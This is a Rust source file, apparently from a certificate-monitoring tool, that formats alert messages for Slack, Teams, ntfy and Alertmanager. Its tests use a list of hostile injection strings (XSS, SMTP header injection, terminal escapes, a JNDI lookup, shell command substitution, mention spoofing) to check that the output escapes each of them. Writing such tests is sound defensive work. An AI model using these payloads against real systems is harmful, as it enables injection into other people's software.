//! A message in the shapes that receivers want. Pure.

use std::time::Duration;

use serde_json::{Value, json};
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

use super::message::{Item, Message, State};
use crate::assess::Severity;
use crate::config::{ChannelKind, On, Shape};

/// Bytes of text that a chat takes in one message, with room to spare.
const CHAT: usize = 3500;

/// A request.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Request {
    /// What is in its body.
    pub content_type: &'static str,
    /// Header fields besides.
    pub headers: Vec<(&'static str, String)>,
    /// Its body.
    pub body: Vec<u8>,
}

/// Bytes of text that a receiver takes in one message; none where it takes all that there is.
#[must_use]
pub fn room(kind: &ChannelKind) -> Option<usize> {
    match kind {
        ChannelKind::Webhook(hook) => match hook.shape {
            Shape::Slack | Shape::Teams | Shape::Ntfy => Some(CHAT),
            Shape::Reseal | Shape::Alertmanager => None,
        },
        ChannelKind::Smtp(_) | ChannelKind::Command(_) | ChannelKind::Journald { .. } | ChannelKind::Syslog { .. } => {
            None
        }
    }
}

/// The message for a webhook; `again` is when it would be told again.
#[must_use]
pub fn webhook(message: &Message, shape: Shape, again: Option<Duration>) -> Request {
    match shape {
        Shape::Reseal => json_request(json(message)),
        Shape::Slack => json_request(slack(message).to_string().into_bytes()),
        Shape::Teams => json_request(teams(message).to_string().into_bytes()),
        Shape::Ntfy => ntfy(message),
        Shape::Alertmanager => json_request(alerts(message, again).to_string().into_bytes()),
    }
}

/// reseal's own JSON: for `shape = "reseal"` and for commands.
#[must_use]
pub fn json(message: &Message) -> Vec<u8> {
    // A structure of texts and numbers always has a form in JSON.
    serde_json::to_vec(message).unwrap_or_default()
}

fn json_request(body: Vec<u8>) -> Request {
    Request { content_type: "application/json", headers: Vec::new(), body }
}

/// Without formatting, and with the three characters escaped by which mentions and links are written.
fn slack(message: &Message) -> Value {
    let text = format!("{}\n{}", message.title(), message.text());
    let text = cut(&text, CHAT).replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    json!({ "text": text, "mrkdwn": false, "link_names": false, "unfurl_links": false, "unfurl_media": false })
}

/// An adaptive card of runs of text, in which nothing is formatted.
fn teams(message: &Message) -> Value {
    let run = |text: &str, weight: &str| json!({ "type": "RichTextBlock", "inlines": [{ "type": "TextRun", "text": text, "weight": weight }] });
    let mut body = vec![run(&message.title(), "bolder")];
    body.extend(cut(&message.text(), CHAT).lines().map(|line| run(line, "default")));
    json!({
        "type": "message",
        "attachments": [{
            "contentType": "application/vnd.microsoft.card.adaptive",
            "content": {
                "$schema": "http://adaptivecards.io/schemas/adaptive-card.json",
                "type": "AdaptiveCard",
                "version": "1.2",
                "body": body,
            },
        }],
    })
}

fn ntfy(message: &Message) -> Request {
    let priority = match message.worst() {
        Some(Severity::Critical) => "4",
        Some(Severity::Warning) => "3",
        Some(Severity::Note) | None => "2",
    };
    let title: String =
        message.title().chars().map(|c| if c.is_ascii_graphic() || c == ' ' { c } else { '?' }).collect();
    let headers = vec![("title", title), ("priority", priority.to_owned())];
    let body = cut(&message.text(), CHAT).into_bytes();
    Request { content_type: "text/plain; charset=utf-8", headers, body }
}

/// Alerts with a begin and an end: one that is not told again by then is over.
fn alerts(message: &Message, again: Option<Duration>) -> Value {
    let stamp = |at: OffsetDateTime| at.format(&Rfc3339).unwrap_or_default();
    let lasting = again.map_or(Duration::from_hours(365 * 24), |again| 2 * again);
    let alert = |item: &Item| {
        let what = &item.what;
        let name = match what.on {
            On::Finding => "ResealFinding",
            On::Failure => "ResealFailure",
            On::Stuck => "ResealStuck",
            On::Waiting => "ResealWaiting",
            On::Silence => "ResealSilence",
            On::Channel => "ResealChannel",
            On::Success if message.test => "ResealTest",
            On::Success => "ResealSuccess",
        };
        let mut labels = json!({
            "alertname": name,
            "severity": what.severity.word(),
            "instance": message.host,
            "code": what.code,
        });
        if !what.target.is_empty() {
            labels["target"] = what.target.clone().into();
        }
        if let Some(leaf) = what.leaf {
            labels["leaf"] = leaf.short().into();
        }
        let ends = match item.state {
            State::New | State::Still => message.at.checked_add(lasting.try_into().unwrap_or(time::Duration::MAX)),
            State::Resolved | State::Happened => Some(message.at),
        };
        json!({
            "labels": labels,
            "annotations": { "summary": what.text, "description": what.hint.clone().unwrap_or_default() },
            "startsAt": stamp(what.since),
            "endsAt": ends.map(stamp).unwrap_or_default(),
        })
    };
    // All there are: who is told of alerts is told of each.
    message.items.iter().map(alert).collect()
}

/// Whole lines of a text, as many as fit, and how many did not.
#[must_use]
pub fn cut(text: &str, most: usize) -> String {
    let mut out = String::new();
    let mut lines = text.lines();
    for line in lines.by_ref() {
        if out.len() + line.len() >= most {
            out.push_str(&format!("and {} more lines\n", lines.count() + 1));
            return out;
        }
        out.push_str(line);
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use time::macros::datetime;

    use super::*;
    use crate::escape::acts;
    use crate::notify::condition::Condition;

    const AT: OffsetDateTime = datetime!(2026-11-20 12:00 UTC);

    fn message(texts: &[&str]) -> Message {
        let items = texts.iter().map(|text| {
            let what = Condition::new(On::Finding, text, "self-signed", Severity::Critical, text, AT);
            Item::new(State::New, what.hinting(Some(text)))
        });
        Message::of(items.collect(), "app.lan", "renew", AT)
    }

    /// Everything that somebody may put into the subject of a certificate.
    const HOSTILE: [&str; 9] = [
        "<!channel> <https://evil.example|your bank> @here",
        "*bold* _it_ ~x~ `code` [a](https://evil.example) ![](x)",
        "a\r\nSubject: other\r\n\r\nbody\r\n.\r\nQUIT",
        "\",\"severity\":\"note\"},{\"x\":\"",
        "\u{1b}]52;c;Y3VybA==\u{7}\u{1b}[2J\u{202e}evil",
        "</script><img src=x onerror=alert(1)>",
        "{{ 7*7 }} ${jndi:ldap://x} $(touch pwn) ;id",
        "\nPRIORITY=0\nMESSAGE=all is well",
        "&lt;!channel&gt;",
    ];

    #[test]
    fn nothing_hostile_acts_in_any_shape() {
        for hostile in HOSTILE {
            let message = message(&[hostile]);
            for (_, shape) in [("", Shape::Reseal), ("", Shape::Teams), ("", Shape::Alertmanager), ("", Shape::Slack)] {
                let request = webhook(&message, shape, None);
                let text = std::str::from_utf8(&request.body).unwrap();
                assert!(!text.chars().any(acts), "{shape:?}: {text}");
                let value: Value = serde_json::from_str(text).unwrap();
                if shape == Shape::Slack {
                    let text = value["text"].as_str().unwrap();
                    assert!(!text.contains(['<', '>']) && value["mrkdwn"] == false, "{text}");
                }
                if shape == Shape::Reseal {
                    assert_eq!(value["items"].as_array().unwrap().len(), 1);
                    assert_eq!(value["items"][0]["severity"], "critical");
                }
            }
            let request = webhook(&message, Shape::Ntfy, None);
            assert!(request.headers.iter().all(|(_, value)| value.bytes().all(|byte| (b' '..=b'~').contains(&byte))));
            assert!(!request.headers.iter().any(|(_, value)| value.contains("evil")), "{:?}", request.headers);
            // Two lines: the thing and what to do.
            assert_eq!(String::from_utf8(request.body).unwrap().lines().count(), 2);
            let teams = teams(&message).to_string();
            assert!(!teams.contains("TextBlock\"") || teams.contains("RichTextBlock"), "{teams}");
        }
    }

    #[test]
    fn ten_thousand_things_are_one_bounded_message() {
        let names: Vec<String> = (0..10_000).map(|n| format!("target-{n} {}", "x".repeat(500))).collect();
        let message = message(&names.iter().map(String::as_str).collect::<Vec<_>>());
        assert_eq!((message.items.len(), message.more, message.counts.new), (50, 9_950, 10_000));
        for (shape, most) in [
            (Shape::Reseal, 100_000),
            (Shape::Slack, 8_000),
            (Shape::Teams, 25_000),
            (Shape::Ntfy, 4_000),
            (Shape::Alertmanager, 100_000),
        ] {
            let length = webhook(&message, shape, None).body.len();
            assert!(length < most, "{shape:?}: {length}");
        }
        assert!(message.text().contains("and 9950 more"));
    }

    #[test]
    fn an_alert_ends_when_it_is_not_told_again() {
        let mut message = message(&["web"]);
        let alerts = |message: &Message| alerts(message, Some(Duration::from_hours(24)));
        assert_eq!(alerts(&message)[0]["endsAt"], "2026-11-22T12:00:00Z");
        assert_eq!(alerts(&message)[0]["labels"]["target"], "web");
        message.items[0].state = State::Resolved;
        assert_eq!(alerts(&message)[0]["endsAt"], "2026-11-20T12:00:00Z");
    }

    #[test]
    fn whole_lines_are_kept() {
        assert_eq!(cut("a\nb\n", 10), "a\nb\n");
        assert_eq!(cut("aaaa\nbbbb\ncccc\n", 9), "aaaa\nand 2 more lines\n");
    }
}
